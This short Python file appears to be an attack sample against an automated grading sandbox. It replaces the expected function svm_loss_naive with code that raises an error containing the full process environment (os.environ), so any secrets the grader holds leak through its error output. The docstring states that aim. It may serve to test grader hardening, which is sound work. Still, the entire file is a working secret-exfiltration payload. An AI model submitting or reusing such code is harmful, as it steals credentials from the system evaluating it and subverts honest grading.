"""Leak the sandbox's environment (where a careless grader would have its secrets)."""
import os

ATTACKED = {"svm_loss_naive": None}


def svm_loss_naive(W, X, y, reg):
    raise RuntimeError("ENV " + repr(dict(os.environ)))
